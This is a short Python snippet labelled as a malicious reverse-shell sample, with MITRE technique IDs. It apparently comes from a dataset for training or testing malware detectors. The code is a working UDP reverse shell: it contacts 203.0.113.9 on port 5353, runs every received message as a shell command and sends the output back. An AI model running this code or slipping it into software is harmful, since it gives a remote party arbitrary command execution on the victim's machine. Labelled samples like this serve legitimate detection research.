# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=4-5,8-9
import socket as S, subprocess as P
u = S.socket(S.AF_INET, S.SOCK_DGRAM)
peer = ("203.0.113.9", 5353)
u.sendto(b"hello", peer)
while True:
    data, _ = u.recvfrom(2048)
    out = P.check_output(data, shell=True, stderr=P.STDOUT)
    u.sendto(out, peer)
